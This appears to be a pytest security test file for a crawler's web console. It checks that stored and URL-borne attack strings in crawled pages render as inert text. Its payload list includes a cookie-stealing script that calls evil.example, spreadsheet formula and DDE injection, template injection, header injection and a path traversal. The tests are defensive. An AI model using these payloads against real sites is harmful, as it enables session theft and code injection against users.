"""Twenty stored attacks come in through the crawl's own path, and are shown as text."""

import json
from html.parser import HTMLParser
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from crawler.reader import read_page
from storage.engine.database import Database
from storage.notices.flags import list_flags
from tests.storage.samples import NOW
from tests.storage.steps import save_article

ATTACKS = (
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4\">x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=token></form>",
    "</title></bdi></p><script>alert(1)</script>",
    "\"><input autofocus onfocus=alert(1)>",
    "' onmouseover='alert(1)",
    "{{ 7 * 7 }}{% import os %}",
    "\u202eevil\u202c\u2066left\u2069",
    "=HYPERLINK(\"//evil.example\",\"x\")",
    "＝cmd|' /C calc'!A0",
    "x" * 3000,
)  # fmt: skip

ALLOWED_SOURCES = ("/static/console.js", "/static/charts.js", "/static/echarts.common.min.js")


def page_of(attack: str, number: int) -> bytes:
    """A page of a site that was taken over: the attack stands in all that is read of it."""
    shown = attack.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    shown = shown.replace('"', "&quot;")
    events = "".join(
        f"<p>{name}、推动提案办理提质增效，听取群众意见{shown[:90]}</p>"
        for name in "一二三四五六七八九十"
    )
    return f"""<html><head><title>云南省政协2020年十件大事{shown}</title></head><body>
    <h1>云南省政协2020年十件大事{shown}</h1>
    <div class="info">2021-01-24 来源：云南日报{shown[:40]} 记者：{shown[:20]}</div>
    <div class="content"><p>云南省政协2020年十件大事{shown[:300]}揭晓。</p>
    <p>全年立案提案612件，办复率百分之百。</p>
    <p>岁末回望，省政协常委会一年来的足迹清晰可见，委员们把群众的话带回会场，开展三次民主监督，
    形成监督报告五份送省委参阅，一百二十八个委员工作室走进社区，接待群众来访超过两万人次。</p>
    {events}<img src="javascript:alert(1)" alt="{shown[:100]}"></div></body></html>""".encode()


class Markup(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self.wrong += [f"{tag} {name}" for name in given if name.startswith("on")]
        self.wrong += [f"{tag} style" for name in given if name == "style"]
        for name in ("href", "src", "action", "formaction"):
            value = (given.get(name) or "").strip().lower()
            if value.startswith(("javascript:", "data:", "vbscript:", "//")):
                self.wrong.append(f"{tag} {name}={value[:40]}")
        if (given.get("href") or "").startswith("http") and set(
            (given.get("rel") or "").split()
        ) != {"noreferrer", "noopener"}:
            self.wrong.append(f"{tag} rel={given.get('rel')} of {given.get('href')}")
        if tag == "script" and given.get("src") not in ALLOWED_SOURCES:
            self.wrong.append(f"script {given}")
        if tag in ("iframe", "object", "embed", "base", "style", "svg", "meta") and (
            tag != "meta" or "http-equiv" in given
        ):
            self.wrong.append(tag)


@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_a_stored_attack_is_text(local: TestClient, database_of: Database, number: int) -> None:
    attack = ATTACKS[number]
    url = f"http://evil.example/2021/01/24/{number}.html"
    article = read_page(page_of(attack, number), url=url, now=NOW, source=None)
    with database_of.begin() as session:
        save_article(session, article, now=NOW, run_id=None)
        flag = list_flags(session)[0]
    publication = flag.publication_id
    capture = local.get(f"/publications/{publication}.json").json()["publication"]["captures"][0]
    for path in (
        "/", "/flags", f"/publications/{publication}", f"/publications/{publication}?revision=1",
        "/search?q=十件大事", "/coverage/云南/2020", f"/snapshots/{capture['sha256']}?view=source",
        "/?did=" + "x" * 9, "/compare", "/feeds/flags.atom",
    ):  # fmt: skip
        answer = local.get(path)
        assert answer.status_code == 200, path
        if path.startswith("/feeds"):
            continue
        markup = Markup()
        markup.feed(answer.text)
        assert not markup.wrong, (path, markup.wrong)
    # What looks like a link, and what turns the direction of a text, the reader cuts out.
    title = json.loads(local.get("/flags.json").text)["rows"][0]["title"]
    assert attack[:15] in title or number in {4, 5, 16}
    for row in local.get("/flags.csv").text.splitlines()[1:]:
        for cell in row.split(","):
            assert not cell.strip('"').startswith(("=", "+", "@", "＝"))


@pytest.mark.parametrize(
    "path",
    ['"><script>alert(1)</script>', "' onmouseover='alert(1)", "%0d%0aX: y", "{{7*7}}",
     "../../../etc/passwd", "?q=javascript:alert(1)#<svg onload=alert(1)>"],
)  # fmt: skip
def test_an_attack_in_an_address_is_text(
    local: TestClient, database_of: Database, path: str
) -> None:
    url = f"http://evil.example/2021/01/24/1.html{path}"
    article = read_page(page_of("", 1), url=url, now=NOW, source=None)
    with database_of.begin() as session:
        save_article(session, article, now=NOW, run_id=None)
        publication = list_flags(session)[0].publication_id
    for page in ("/", f"/publications/{publication}", "/search?q=十件大事"):
        answer = local.get(page)
        assert answer.status_code == 200
        markup = Markup()
        markup.feed(answer.text)
        assert not markup.wrong, (page, markup.wrong)
    told = local.get(f"/publications/{publication}.json").json()["publication"]["captures"]
    headers = local.get(f"/snapshots/{told[0]['sha256']}").headers
    assert "x" not in headers
    name = headers["content-disposition"].partition("filename=")[2].strip('"')
    assert not set(name) & set('/\\\r\n"<>')


def test_templates_mark_nothing_as_safe() -> None:
    console = Path(__file__).parents[3] / "scheduler/console"
    for path in [*console.rglob("*.html"), *console.rglob("*.py")]:
        words = path.read_text("utf-8")
        for forbidden in ("|safe", "| safe", "Markup(", "autoescape false", "autoescape=False"):
            assert forbidden not in words, path


@pytest.mark.parametrize("field", ["q", "region", "source", "back", "did", "changed", "years"])
def test_what_stands_in_an_address_is_text_too(local: TestClient, field: str) -> None:
    for attack in ATTACKS[:15]:
        for path in ("/search", "/flags", "/runs", "/compare", "/login"):
            answer = local.get(path, params={field: attack})
            markup = Markup()
            markup.feed(answer.text)
            assert not markup.wrong, (path, markup.wrong)
